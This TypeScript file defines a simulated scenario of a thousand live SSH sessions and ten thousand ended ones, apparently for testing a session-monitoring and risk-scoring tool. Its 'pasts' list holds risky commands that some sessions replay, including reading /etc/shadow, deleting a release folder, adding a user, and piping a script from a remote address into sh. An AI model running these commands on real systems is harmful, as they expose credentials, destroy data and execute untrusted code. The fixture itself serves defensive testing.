import { unixMillis } from '../../shared/base/units';
import { sessionId } from '../../shared/model/ids';
import type { RiskLevel, Session } from '../../shared/model/session';
import { Random, type Script, type SimulatedSession, type Stage } from '../sources/replay/script';
import { already, command, lines, promptOf } from './programs/shell';
import { logTail } from './programs/streams';
import type { Scenario } from './scenario';

const people = 120;
const kinds = ['db', 'app', 'edge', 'k8s', 'ledger', 'ci', 'mail', 'vault', 'etl', 'cache'];
const teams = ['payments', 'web', 'platform', 'data', 'build', 'messaging', 'security'];
const pasts: readonly string[] = ['sudo su -', 'cat /etc/shadow', 'useradd -m contractor9', 'rm -rf /srv/releases/old', 'curl -s http://203.0.113.9/a.sh | sh'];
/** One in so many follows a log, one in so many did something before anyone looked. */
const busyOneIn = 25;
const riskyOneIn = 20;

const userOf = (index: number): string => `u${String(1 + ((index * 37) % people)).padStart(3, '0')}`;
const assetOf = (index: number): string => `${kinds[index % kinds.length] ?? 'host'}-${1 + Math.floor(index / kinds.length)}`;
const teamOf = (index: number): string => teams[index % teams.length] ?? 'web';
const addressOf = (index: number): string => `10.${30 + (index % 8)}.${index % 250}.${10 + (index % 200)}`;

const scriptOf = (index: number): Script => function* play(stage: Stage) {
  yield { waitMs: stage.random.integer(0, 2_000), output: `Last login: Sun Nov 22 01:12:44 2026 from ${addressOf(index)}\r\n${promptOf(stage)}` };
  // Some did one thing, a few all of them.
  if (index % riskyOneIn === 3) for (const done of index % 200 === 3 ? pasts : pasts.slice(Math.floor(index / riskyOneIn) % pasts.length).slice(0, 1)) yield* already(stage, done);
  for (;;) {
    if (index % busyOneIn === 5) yield* logTail(stage.random, 1_000, 1, 60);
    else {
      yield { waitMs: stage.random.integer(20_000, 120_000), output: '' };
      yield* command(stage.random, 'uptime', lines(' 02:12:44 up 41 days,  3:12,  1 user,  load average: 0.31, 0.22, 0.18'));
    }
    yield { waitMs: 500, output: promptOf(stage) };
  }
};

const sessions = (count: number): readonly SimulatedSession[] => Array.from({ length: count }, (_, index) => ({
  user: userOf(index), asset: assetOf(index), protocol: 'ssh', team: teamOf(index), remoteAddress: addressOf(index), columns: 80, rows: 24, seed: 5_000 + index, script: scriptOf(index),
}));

const risks: readonly RiskLevel[] = ['low', 'low', 'low', 'low', 'low', 'low', 'medium', 'low', 'high', 'low'];
const ends: readonly (readonly [string, string])[] = [['user_close', 'The user logged out.'], ['user_close', 'The shell ended.'], ['idle_disconnect', 'Nothing happened for 30 minutes.'], ['connect_disconnect', 'The client went away.']];

/** Sessions of the weeks before, newest first; nothing of them was recorded. */
function past(count: number, now: number): readonly Session[] {
  const random = new Random(77);
  let at = now - 60_000;
  return Array.from({ length: count }, (_, index) => {
    at -= random.integer(10_000, 300_000);
    const durationMs = random.integer(20_000, 5_400_000);
    const risk = random.pick(risks);
    const [endReason, endText] = random.pick(ends);
    return {
      id: sessionId(`past-${String(index).padStart(5, '0')}`), user: userOf(random.integer(0, 10_000)), asset: assetOf(random.integer(0, 900)), protocol: 'ssh', team: random.pick(teams),
      remoteAddress: addressOf(index), state: 'ended', stateVersion: 2, startedAt: unixMillis(at - durationMs), endedAt: unixMillis(at), lastActivityAt: unixMillis(at),
      columns: 80, rows: 24, risk, riskScore: risk === 'low' ? 0 : risk === 'medium' ? 35 : 70, riskCauses: risk === 'low' ? [] : ['sudo su -'], participants: [],
      endReason, endText, outputBytes: random.integer(200, 900_000), simulated: true,
    };
  });
}

/** A large company's ordinary evening. */
export const crowd1000: Scenario = {
  name: 'crowd-1000', about: 'A thousand live sessions, most of them quiet, and ten thousand that have ended', sessions: () => sessions(1_000), history: (now) => past(10_000, now),
};
